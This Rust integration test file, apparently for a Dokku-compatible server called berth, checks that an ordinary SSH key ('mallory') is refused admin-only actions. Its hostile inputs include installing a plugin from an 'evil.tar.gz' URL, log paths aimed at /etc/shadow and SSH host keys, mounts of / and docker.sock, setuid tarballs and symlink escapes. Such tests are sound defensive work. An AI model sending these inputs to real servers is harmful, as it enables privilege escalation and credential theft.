//! An attacker holding one ordinary SSH key: each attack that worked
//! before roles existed, refused with a clear message and no side effect;
//! what an admin may do still works; access lists, the audit log, and
//! `user-auth` for git.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use crate::harness::Berth;
use crate::source::{Deployed, Source, unique_app};
use crate::ssh_server::SshServer;

/// A server with the harness's `admin` key and a `user` key `mallory`.
fn server_with_user(berth: &Berth) -> (SshServer, std::path::PathBuf) {
    let server = SshServer::start(berth);
    let mallory = SshServer::add_key(berth, "mallory", "user");
    (server, mallory)
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

#[test]
fn root_only_commands_need_the_admin_role() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    let before_keys = read(&berth.dokku_root().join(".ssh/authorized_keys"));
    let attacker2 = crate::ssh_server::keygen(&berth.root().join("attacker2"), "ed25519");
    let attacker2_pub = read(&crate::ssh_server::pub_path(&attacker2));
    for (command, stdin) in [
        (
            vec!["plugin:install", "http://127.0.0.1:9/evil.tar.gz"],
            String::new(),
        ),
        (
            vec![
                "plugin:set",
                "--global",
                "allowed-docker-options",
                "privileged,host-namespaces,host-mounts",
            ],
            String::new(),
        ),
        (vec!["ssh-keys:add", "attacker2"], attacker2_pub.clone()),
        (vec!["ssh-keys:remove", "admin"], String::new()),
        (
            vec!["ssh-keys:set", "mallory", "role", "admin"],
            String::new(),
        ),
        (vec!["plugin:trigger", "post-deploy", "x"], String::new()),
        (vec!["events:off"], String::new()),
        (vec!["nginx:stop"], String::new()),
        (vec!["network:destroy", "--force", "shared"], String::new()),
        (vec!["trace:on"], String::new()),
        (vec!["git:auth", "github.com", "u", "p"], String::new()),
        (vec!["git:generate-deploy-key"], String::new()),
    ] {
        server
            .ssh(command.clone())
            .identity(&mallory)
            .stdin(stdin)
            .fails(1)
            .stderr_is(&format!(" !     {} requires the admin role\n", command[0]));
    }
    assert_eq!(
        read(&berth.dokku_root().join(".ssh/authorized_keys")),
        before_keys
    );
    assert!(
        !berth
            .lib_root()
            .join("config/plugin/--global/allowed-docker-options")
            .exists()
    );
    assert!(!berth.lib_root().join("plugins/available/evil").exists());
    assert!(!berth.dokku_root().join(".netrc").exists());
    assert!(!berth.dokku_root().join(".dokkurc/DOKKU_TRACE").exists());
    // What Dokku lets its SSH user read stays open.
    server.ssh(["plugin:list"]).identity(&mallory).succeeds();
    server.ssh(["ssh-keys:list"]).identity(&mallory).succeeds();

    // An admin key may, over SSH, piping the key.
    server
        .ssh(["ssh-keys:add", "attacker2"])
        .stdin(attacker2_pub)
        .succeeds();
    server
        .ssh(["ssh-keys:list", "attacker2"])
        .succeeds()
        .stdout_has("ROLE=\"user\"");
    server
        .ssh(["plugin:set", "--global", "trigger-timeout", "30"])
        .succeeds();
}

#[test]
fn internal_commands_are_not_reachable_over_ssh_even_past_user_auth() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    berth.app("target");
    // A user-auth plugin that lets everything through: internal commands
    // stay closed whatever it says.
    let gate = berth.root().join("open-gate");
    std::fs::create_dir_all(&gate).unwrap();
    std::fs::write(
        gate.join("plugin.toml"),
        "[plugin]\ndescription = \"gate\"\nversion = \"1.0.0\"\n",
    )
    .unwrap();
    std::fs::write(gate.join("user-auth"), "#!/usr/bin/env bash\nexit 0\n").unwrap();
    std::fs::set_permissions(
        gate.join("user-auth"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    berth
        .cmd(["plugin:install", &gate.display().to_string()])
        .succeeds();
    for command in [
        vec!["git-hook", "target"],
        vec!["server", "--ssh-listen", "127.0.0.1:1"],
        vec!["healthcheck"],
    ] {
        for key in [&mallory, &server.client_key()] {
            server
                .ssh(command.clone())
                .identity(key)
                .fails(1)
                .stderr_is(&format!(
                    " !     {} is berth's own command: it cannot be run over SSH\n",
                    command[0]
                ));
        }
    }
}

#[test]
fn nginx_log_paths_stay_in_the_log_root_and_logs_show_only_their_tail() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    berth.app("logs");
    let host_key = berth.lib_root().join("data/ssh/ssh_host_ed25519_key");
    for (property, value) in [
        ("access-log-path", host_key.display().to_string()),
        ("error-log-path", "/etc/shadow".to_string()),
        ("error-log-path", "/any/where.log".to_string()),
        (
            "access-log-path",
            "/var/log/nginx/other-app-access.log".to_string(),
        ),
    ] {
        server
            .ssh(["nginx:set", "logs", property, &value])
            .identity(&mallory)
            .fails(1)
            .stderr_has(&format!(
                "Invalid value for {property}: {value} (use off, or a file of logs in /var/log/nginx"
            ));
    }
    assert!(!berth.lib_root().join("config/nginx/logs").exists());
    server
        .ssh([
            "nginx:set",
            "--global",
            "error-log-path",
            "/var/log/nginx/x.log",
        ])
        .identity(&mallory)
        .fails(1)
        .stderr_has("Invalid global value for error-log-path");
    // Dokku's documented values still work.
    for value in ["/var/log/nginx/logs-custom.log", "off"] {
        server
            .ssh(["nginx:set", "logs", "access-log-path", value])
            .identity(&mallory)
            .succeeds();
    }
    server
        .ssh(["nginx:access-logs", "logs"])
        .identity(&mallory)
        .fails(1)
        .stderr_is(" !     The access log of logs is off\n");
    // A value planted in the store before this check existed is refused
    // when read, never opened.
    let planted = berth.lib_root().join("config/nginx/logs/error-log-path");
    std::fs::write(&planted, host_key.display().to_string()).unwrap();
    let shown = server
        .ssh(["nginx:error-logs", "logs"])
        .identity(&mallory)
        .run();
    assert_eq!(shown.code, 1);
    assert!(!shown.stdout().contains("PRIVATE KEY"));
}

#[test]
fn storage_mounts_of_the_host_are_confined() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    berth.app("mounts");
    let lib = berth.lib_root();
    for (spec, why) in [
        ("/:/host", "whole file system"),
        ("/proc:/p", "kernel interfaces"),
        ("/sys/kernel:/k", "kernel interfaces"),
        ("/dev:/d", "kernel interfaces"),
        ("/var/run/docker.sock:/s", "Docker engine"),
        ("/var/run:/r", "Docker engine"),
        (&format!("{}:/state", lib.display()), "berth state"),
        (
            &format!("{}:/ssh", lib.join("data/ssh").display()),
            "berth state",
        ),
        (
            &format!("{}:/apps", berth.dokku_root().display()),
            "berth state",
        ),
    ] {
        server
            .ssh(["storage:mount", "mounts", spec])
            .identity(&mallory)
            .fails(1)
            .stderr_has(why);
    }
    server
        .ssh(["storage:mount", "mounts", "/etc:/etc"])
        .identity(&mallory)
        .fails(1)
        .stderr_has("needs the host-mounts class");
    assert!(!lib.join("config/storage/mounts").exists());
    // The storage folder works for everyone, as in Dokku's docs.
    berth.cmd(["storage:ensure-directory", "shared"]).succeeds();
    server
        .ssh([
            "storage:mount",
            "mounts",
            &format!("{}:/data", lib.join("data/storage/shared").display()),
        ])
        .identity(&mallory)
        .succeeds();
    // Once an admin allows the class, other host folders too — never the
    // dangerous ones.
    berth
        .cmd([
            "plugin:set",
            "--global",
            "allowed-docker-options",
            "host-mounts",
        ])
        .succeeds();
    server
        .ssh(["storage:mount", "mounts", "/srv/shared:/srv"])
        .identity(&mallory)
        .succeeds();
    server
        .ssh(["storage:mount", "mounts", "/:/host"])
        .fails(1)
        .stderr_has("whole file system");
}

#[test]
fn over_ssh_files_come_from_stdin_never_from_the_server() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    berth.app("files");
    for key in [&mallory, &server.client_key()] {
        server
            .ssh(["config:import", "files", "/etc/os-release"])
            .identity(key)
            .fails(1)
            .stderr_is(" !     Over SSH config:import reads stdin only, not a file on the server: pipe it, as in ssh dokku@HOST config:import APP < .env\n");
        server
            .ssh(["git:from-archive", "files", "/etc/hostname"])
            .identity(key)
            .fails(1)
            .stderr_has("Over SSH git:from-archive reads stdin only");
    }
    server
        .ssh(["ssh-keys:add", "copied", "/root/.ssh/id_ed25519.pub"])
        .fails(1)
        .stderr_has("Over SSH ssh-keys:add reads stdin only");
    assert!(
        berth
            .cmd(["config:show", "files"])
            .succeeds()
            .stdout()
            .lines()
            .count()
            <= 1
    );
    // Piped, the same works.
    server
        .ssh(["config:import", "files"])
        .identity(&mallory)
        .stdin("PIPED=yes\n")
        .succeeds();
    berth
        .cmd(["config:get", "files", "PIPED"])
        .succeeds()
        .stdout_is("yes\n");
}

#[test]
fn a_fetch_never_creates_an_app() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    let clone = berth.root().join("clone").display().to_string();
    server
        .git_as(
            &mallory,
            ["clone", "--quiet", &server.remote_url("nothere"), &clone],
        )
        .fails(128)
        .stderr_has("App nothere does not exist");
    berth.cmd(["apps:exists", "nothere"]).fails(20);
}

#[test]
fn plugin_tarballs_lose_setuid_bits_and_device_nodes_are_refused() {
    let berth = Berth::new();
    let make = |name: &str, extra: &dyn Fn(&mut tar::Builder<Vec<u8>>)| {
        let mut builder = tar::Builder::new(Vec::new());
        let manifest = format!("[plugin]\ndescription = \"{name}\"\nversion = \"1.0.0\"\n");
        let mut header = tar::Header::new_gnu();
        header.set_size(manifest.len() as u64);
        header.set_mode(0o644);
        header.set_path(format!("{name}/plugin.toml")).unwrap();
        header.set_cksum();
        builder.append(&header, manifest.as_bytes()).unwrap();
        extra(&mut builder);
        let path = berth.root().join(format!("{name}.tar"));
        std::fs::write(&path, builder.into_inner().unwrap()).unwrap();
        path
    };
    let setuid = make("suid", &|builder| {
        let body = b"#!/bin/sh\nid\n";
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o4755);
        header.set_path("suid/post-deploy").unwrap();
        header.set_cksum();
        builder.append(&header, &body[..]).unwrap();
    });
    berth
        .cmd(["plugin:install", &setuid.display().to_string()])
        .succeeds();
    let installed = berth.lib_root().join("plugins/available/suid/post-deploy");
    let mode = std::fs::metadata(&installed).unwrap().permissions().mode();
    assert_eq!(mode & 0o7777, 0o755, "mode {mode:o}");

    let device = make("dev", &|builder| {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Char);
        header.set_size(0);
        header.set_mode(0o666);
        header.set_path("dev/null2").unwrap();
        header.set_device_major(1).unwrap();
        header.set_device_minor(3).unwrap();
        header.set_cksum();
        builder.append(&header, &[][..]).unwrap();
    });
    berth
        .cmd(["plugin:install", &device.display().to_string()])
        .fails(1)
        .stderr_has("is a device node or a fifo");
    assert!(!berth.lib_root().join("plugins/available/dev").exists());
}

#[test]
fn chown_of_a_storage_folder_never_follows_symlinks() {
    let berth = Berth::new();
    let outside = berth.root().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("keep"), "root's").unwrap();
    let dir = berth.lib_root().join("data/storage/app-data");
    std::fs::create_dir_all(dir.join("sub")).unwrap();
    std::os::unix::fs::symlink(&outside, dir.join("sub/escape")).unwrap();
    std::os::unix::fs::symlink(outside.join("keep"), dir.join("file-link")).unwrap();
    berth
        .cmd([
            "storage:ensure-directory",
            "--chown",
            "herokuish",
            "app-data",
        ])
        .succeeds();
    assert_eq!(std::fs::metadata(dir.join("sub")).unwrap().uid(), 32767);
    assert_eq!(
        std::fs::symlink_metadata(dir.join("sub/escape"))
            .unwrap()
            .uid(),
        32767,
        "the link itself is chowned"
    );
    assert_eq!(
        std::fs::metadata(&outside).unwrap().uid(),
        0,
        "its target is not"
    );
    assert_eq!(std::fs::metadata(outside.join("keep")).unwrap().uid(), 0);
}

#[test]
fn access_lists_decide_who_pushes_and_manages_an_app() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    let ada = SshServer::add_key(&berth, "ada", "user");
    let source = Source::new("hello");
    let app = unique_app("acl");
    berth.app(&app);
    let other = unique_app("acl-open");
    berth.app(&other);

    // No list: open to every key, as in dokku-acl.
    server
        .ssh(["config:set", "--no-restart", &app, "A=1"])
        .identity(&mallory)
        .succeeds();
    // An admin sets the list; a user cannot.
    server
        .ssh(["acl:add", &app, "ada"])
        .identity(&mallory)
        .fails(1)
        .stderr_is(" !     acl:add requires the admin role\n");
    server.ssh(["acl:add", &app, "ada"]).succeeds();
    server
        .ssh(["acl:list", &app])
        .identity(&ada)
        .succeeds()
        .stdout_is("ada\n");
    server
        .ssh(["acl:allowed", "ada"])
        .succeeds()
        .stdout_has(&app);

    let refused = format!(
        " !     User mallory does not have permissions to run config:set on {app}, or {app} does not exist\n"
    );
    server
        .ssh(["config:set", "--no-restart", &app, "B=2"])
        .identity(&mallory)
        .fails(1)
        .stderr_is(&refused);
    source
        .push_ssh_as(&server, &app, "master", &mallory)
        .fails(128)
        .stderr_has(&format!(
            "User mallory does not have permissions to run git-receive-pack on {app}"
        ));
    // The listed user pushes and manages it; apps:list shows each key what
    // it may use.
    source.push_ssh_as(&server, &app, "master", &ada).succeeds();
    server
        .ssh(["ps:report", &app, "--deployed"])
        .identity(&ada)
        .succeeds()
        .stdout_is("true\n");
    let listed = server
        .ssh(["apps:list"])
        .identity(&mallory)
        .succeeds()
        .stdout();
    assert!(
        !listed.contains(&app) && listed.contains(&other),
        "{listed}"
    );
    let listed = server.ssh(["apps:list"]).identity(&ada).succeeds().stdout();
    assert!(listed.contains(&app) && listed.contains(&other), "{listed}");
    // Reports of every app, and the one report of everything, show only
    // those apps too.
    for command in ["apps:report", "report"] {
        let reported = server.ssh([command]).identity(&mallory).succeeds().stdout();
        assert!(
            !reported.contains(&app) && reported.contains(&other),
            "{command}: {reported}"
        );
    }
    // A command naming two apps needs both.
    server
        .ssh(["apps:clone", &app, "stolen-copy"])
        .identity(&mallory)
        .fails(1)
        .stderr_has("does not have permissions");

    // DOKKU_SUPER_USER closes apps without a list to everyone else.
    let rc = berth.dokku_root().join(".dokkurc");
    std::fs::create_dir_all(&rc).unwrap();
    std::fs::write(rc.join("acl"), "export DOKKU_SUPER_USER=ada\n").unwrap();
    server
        .ssh(["config:set", "--no-restart", &other, "C=3"])
        .identity(&mallory)
        .fails(1)
        .stderr_has("does not have permissions");
    server
        .ssh(["apps:create", "mallorys-own"])
        .identity(&mallory)
        .fails(1)
        .stderr_has("may not create apps");
    server
        .ssh(["config:set", "--no-restart", &other, "C=3"])
        .identity(&ada)
        .succeeds();
    // Admins and the command line are never bound by the lists.
    server
        .ssh(["config:set", "--no-restart", &app, "D=4"])
        .succeeds();
    berth
        .cmd(["config:set", "--no-restart", &app, "E=5"])
        .succeeds();
    server.ssh(["acl:remove", &app, "ada"]).succeeds();
    berth.cmd(["acl:list", &app]).succeeds().stdout_is("");
}

#[test]
fn user_auth_sees_git_pushes_and_fetches() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    let log = berth.root().join("auth.log");
    let dir = berth.root().join("gate");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("plugin.toml"),
        "[plugin]\ndescription = \"gate\"\nversion = \"1.0.0\"\n",
    )
    .unwrap();
    let script = dir.join("user-auth");
    std::fs::write(
        &script,
        format!(
            "#!/usr/bin/env bash\necho \"$*\" >>{}\n[[ $2 != mallory ]]\n",
            log.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    berth
        .cmd(["plugin:install", &dir.display().to_string()])
        .succeeds();
    let Deployed { app, source, .. } = berth.deploy("gated").push_ssh(&server);
    source
        .push_ssh_as(&server, &app, "master", &mallory)
        .fails(128)
        .stderr_has("Access denied");
    let seen = read(&log);
    assert!(
        seen.contains(&format!("dokku admin git-receive-pack {app}\n")),
        "{seen}"
    );
    assert!(
        seen.contains(&format!("dokku mallory git-receive-pack {app}\n")),
        "{seen}"
    );
}

#[test]
fn the_audit_log_records_who_did_what_and_no_secret() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    berth.app("audited");
    server
        .ssh([
            "config:set",
            "--no-restart",
            "audited",
            "API_TOKEN=hunter2-secret",
        ])
        .identity(&mallory)
        .succeeds();
    server
        .ssh(["plugin:uninstall", "http-auth"])
        .identity(&mallory)
        .fails(1);
    server.ssh(["apps:list"]).identity(&mallory).succeeds();
    berth.cmd(["apps:create", "local-one"]).succeeds();
    server
        .ssh(["http-auth:enable", "audited", "ada", "pass-word-secret"])
        .succeeds();

    let log = server.ssh(["events"]).succeeds().stdout();
    let fingerprint = crate::ssh_server::fingerprint(&crate::ssh_server::pub_path(&mallory));
    let line = log
        .lines()
        .find(|l| l.contains("config:set"))
        .unwrap_or_else(|| panic!("no config:set line:\n{log}"));
    assert!(
        line.contains(&format!(
            "key=mallory fingerprint={fingerprint} from=127.0.0.1 outcome=ok"
        )),
        "{line}"
    );
    assert!(
        line.contains("command=\"config:set --no-restart audited API_TOKEN=…\""),
        "{line}"
    );
    assert!(log.contains("key=mallory"), "{log}");
    assert!(
        log.lines()
            .any(|l| l.contains("outcome=denied") && l.contains("plugin:uninstall http-auth")),
        "{log}"
    );
    assert!(
        log.contains("local=root outcome=ok command=\"apps:create local-one\""),
        "{log}"
    );
    assert!(!log.contains("apps:list"), "reads are not recorded:\n{log}");
    let file = read(&berth.lib_root().join("data/events/audit.log"));
    for secret in ["hunter2-secret", "pass-word-secret"] {
        assert!(!file.contains(secret), "{secret} in the audit log:\n{file}");
    }
    server
        .ssh(["events"])
        .identity(&mallory)
        .fails(1)
        .stderr_is(" !     events requires the admin role\n");
    // Off, then nothing more is recorded but the switch itself.
    server.ssh(["events:off"]).succeeds();
    berth.cmd(["apps:create", "unrecorded"]).succeeds();
    let file = read(&berth.lib_root().join("data/events/audit.log"));
    assert!(
        file.contains("command=\"events:off\"") && !file.contains("unrecorded"),
        "{file}"
    );
    let mode = std::fs::metadata(berth.lib_root().join("data/events/audit.log"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn htpasswd_is_readable_by_nginx_workers_only() {
    let berth = Berth::new();
    // The bundled plugins (berth server installs them too).
    berth.cmd(["plugin:install"]).succeeds();
    berth.app("guarded");
    berth
        .cmd(["http-auth:enable", "guarded", "ada", "a passphrase"])
        .succeeds();
    let htpasswd = berth.dokku_root().join("guarded/htpasswd");
    let meta = std::fs::metadata(&htpasswd).unwrap();
    assert_eq!(meta.permissions().mode() & 0o777, 0o640);
    let group = nix::unistd::Group::from_gid(nix::unistd::Gid::from_raw(meta.gid()))
        .unwrap()
        .unwrap()
        .name;
    assert!(group == "nogroup" || group == "nobody", "{group}");
}

#[test]
fn dokkus_habits_work_unchanged_for_a_user_key() {
    let berth = Berth::new();
    let (server, mallory) = server_with_user(&berth);
    let deploy = berth.deploy("habits");
    let app = deploy.app().to_string();
    server
        .ssh(["apps:create", &app])
        .identity(&mallory)
        .succeeds();
    server
        .ssh(["config:set", "--no-restart", &app, "GREETING=hi"])
        .identity(&mallory)
        .succeeds();
    deploy.push_ssh_as(&server, &mallory);
    server
        .ssh(["ps:restart", &app])
        .identity(&mallory)
        .succeeds();
    server
        .ssh(["apps:list"])
        .identity(&mallory)
        .succeeds()
        .stdout_has(&app);
    server
        .ssh(["--force", "apps:destroy", &app])
        .identity(&mallory)
        .succeeds();
}
